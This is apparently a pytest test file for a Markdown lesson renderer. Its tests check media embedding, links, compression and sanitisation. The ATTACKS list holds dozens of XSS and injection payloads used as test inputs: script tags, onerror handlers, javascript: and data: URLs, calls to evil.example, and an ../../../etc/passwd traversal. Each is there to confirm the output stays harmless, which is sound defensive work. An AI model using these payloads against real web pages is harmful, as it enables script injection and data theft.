"""A lesson's Markdown as a page's body."""

import re
import zlib
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kiosk.packs.lessons import render, resolved_path, to_html, to_inline_html

PICTURE = "/media/" + "a" * 64 + ".svg"
FILM = "/media/" + "b" * 64 + ".mp4"
LESSON = "/packs/tea-stall/lessons/count-change"

_HARMLESS_TAGS = {
    "a", "blockquote", "br", "code", "dd", "div", "dl", "dt", "em", "h2", "h3", "h4", "hr", "img", "li", "ol", "p",
    "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "video",
}  # fmt: skip
_HARMLESS_ATTRIBUTES = {
    "href", "src", "alt", "loading", "class", "start", "align", "title", "tabindex", "controls", "preload",
    "aria-label",
}  # fmt: skip


def resolve(reference: str) -> str | None:
    known = {"../media/cup.svg": PICTURE, "../media/pour.mp4": FILM, "02-count-change.md": LESSON}
    return known.get(reference)


class Seen(HTMLParser):
    """Every tag and attribute of a page as a browser would see it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.tags <= _HARMLESS_TAGS, html
    assert {name for name, _ in seen.attributes} <= _HARMLESS_ATTRIBUTES, html
    for name, value in seen.attributes:
        if name in ("href", "src"):
            assert value in (PICTURE, FILM, LESSON), html


def test_a_picture_of_the_pack_is_shown_from_its_blob() -> None:
    html = to_html("![A cup of tea](../media/cup.svg)", resolve)

    assert f'src="{PICTURE}"' in html
    assert 'alt="A cup of tea"' in html
    assert 'loading="lazy"' in html


def test_a_picture_leads_to_itself_so_that_it_can_be_enlarged_without_a_script() -> None:
    html = to_html("Tea:\n\n![A cup of tea](../media/cup.svg)\n\nMilk.", resolve)

    assert f'<p><a class="enlarge" href="{PICTURE}"><img' in html
    assert "</a></p>" in html
    assert html.count("<a") == 1


@pytest.mark.parametrize(
    ("text", "links"), [("[![A cup](../media/cup.svg)](02.md)", 1), ("![Nothing](nothing.svg)", 0)]
)
def test_a_picture_that_is_a_link_or_is_not_there_leads_nowhere_else(text: str, links: int) -> None:
    assert to_html(text, resolve).count("<a") == links


def test_a_film_is_never_loaded_before_somebody_asks() -> None:
    html = to_html("![How to pour](../media/pour.mp4)", resolve)

    assert "<video" in html
    assert f'src="{FILM}"' in html
    assert 'preload="none"' in html
    assert 'aria-label="How to pour"' in html


def test_a_film_has_its_still_picture_and_its_captions() -> None:
    beside = {"../media/pour.mp4": FILM, "../media/pour.webp": "/media/p.webp", "../media/pour.ml.vtt": "/media/c.vtt"}
    html = to_html("![How to pour](../media/pour.mp4)", beside.get, "ml")

    assert 'poster="/media/p.webp"' in html
    track = re.search(r"<track ([^>]*)>", html)
    assert track
    named = {'src="/media/c.vtt"', 'kind="captions"', 'srclang="ml"', 'label="മലയാളം"', 'default=""'}
    assert set(track[1].split()) == named
    assert "<track" not in to_html("![How to pour](../media/pour.mp4)", beside.get, "hi")


def test_a_link_leads_to_a_lesson_of_the_same_pack() -> None:
    assert f'<a href="{LESSON}">change</a>' in to_html("Then count the [change](02-count-change.md).", resolve)


def test_the_markdown_of_the_format_is_shown() -> None:
    html = to_html(
        "## Milk\n\n- a\n- b\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nTea\n:   A drink\n\n"
        '!!! careful "Hot!"\n    Do not *spill*.\n',
        resolve,
    )

    for expected in ("<h2>Milk</h2>", "<li>a</li>", "<ol>", "<td>1</td>", "<dt>Tea</dt>", "<em>spill</em>"):
        assert expected in html
    assert re.search(r'<div class="admonition careful">\s*<p class="admonition-title">Hot!</p>', html)


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>body{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=pin></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<video src=//evil.example/x.mp4 autoplay>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "text <b onclick=alert(1)>text</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example)",
    "[x](http://evil.example)",
    "[x](/staff/learners)",
    "[x](../../../etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "<asha@evil.example>",
    "![x](http://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](../media/cup.svg "x" onerror=alert(1))',
    '![x" onerror="alert(1)](../media/cup.svg)',
    '![x](../media/cup.svg "x\\" onerror=\\"alert(1)")',
    '!!! try "<img src=x onerror=alert(1)>"\n    text',
    '!!! evil onclick "x"\n    text',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "Tea\n:   <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("markdown", ATTACKS)
def test_nothing_that_an_author_writes_does_anything(markdown: str) -> None:
    assert_harmless(to_html(markdown, resolve))
    assert_harmless(str(to_inline_html(markdown)))


@given(st.lists(st.sampled_from([*ATTACKS, "text", "*", "_", "[", "](", ")", "<", ">", "`", '"', "\n\n", "    ", "&"])))
@settings(deadline=None)
def test_no_mixture_of_attacks_does_anything(parts: list[str]) -> None:
    assert_harmless(to_html("".join(parts), resolve))


def test_raw_html_is_shown_as_the_text_that_it_is() -> None:
    assert to_html("a <b>c</b>", resolve) == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Tea & *milk*", "Tea &amp; <em>milk</em>"),
        ("2 < 3", "2 &lt; 3"),
        ("-5", "-5"),
        ("ചായ", "ചായ"),
        ("", ""),
        ("<p>", "&lt;p&gt;"),
    ],
)
def test_a_line_has_no_paragraph_around_it(text: str, html: str) -> None:
    assert to_inline_html(text) == html


def test_a_rendered_lesson_is_kept_plain_and_deflated_under_one_etag() -> None:
    rendered = render("ചായ " * 200, resolve)

    assert zlib.decompressobj(-zlib.MAX_WBITS).decompress(rendered.deflated) == rendered.html
    assert len(rendered.deflated) < len(rendered.html)
    assert render("ചായ " * 200, resolve) == rendered
    assert render("ചായ " * 201, resolve).etag != rendered.etag


def test_the_deflated_lesson_can_stand_between_other_deflated_pieces() -> None:
    """The frame around a lesson is compressed for each request, the lesson never again."""
    rendered = render("ചായ " * 200, resolve)
    frame = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    before = frame.compress(b"<main>") + frame.flush(zlib.Z_FULL_FLUSH)
    after = frame.compress(b"</main>") + frame.flush()

    whole = zlib.decompress(before + rendered.deflated + after, -zlib.MAX_WBITS)

    assert whole == b"<main>" + rendered.html + b"</main>"


@pytest.mark.parametrize(
    ("reference", "path"),
    [
        ("../media/cup.svg", "media/cup.svg"),
        ("02-count-change.md", "en/02-count-change.md"),
        ("02-count-change.md#milk", "en/02-count-change.md"),
        ("./02-count-change.md", "en/02-count-change.md"),
        ("../../x", "../x"),
        ("/etc/passwd", "/etc/passwd"),
        ("", "en"),
    ],
)
def test_a_reference_is_relative_to_its_file(reference: str, path: str) -> None:
    assert resolved_path("en/01-make-tea.md", reference) == path


@pytest.mark.parametrize("text", ["1. " * 1600, "a\n: b\n" * 800])
def test_a_text_that_nests_too_deeply_does_not_spoil_the_next_one(text: str) -> None:
    assert to_html(text, resolve) == f"<p>{text}</p>"
    assert to_inline_html(text) == text
    assert to_html("*Tea* and\n\n- milk", resolve) == "<p><em>Tea</em> and</p>\n<ul>\n<li>milk</li>\n</ul>"


def test_an_amount_in_a_text_from_the_right_keeps_its_sign_before_its_number() -> None:
    assert to_html("قیمت ₹900 ہے", resolve) == "<p>قیمت \u200e₹900 ہے</p>"
    assert to_inline_html("کل ₹ 1,200") == "کل \u200e₹ 1,200"
    assert to_inline_html("₹ 1,200") == "\u200e₹ 1,200"
    assert to_html("It costs ₹900.", resolve) == "<p>It costs ₹900.</p>"
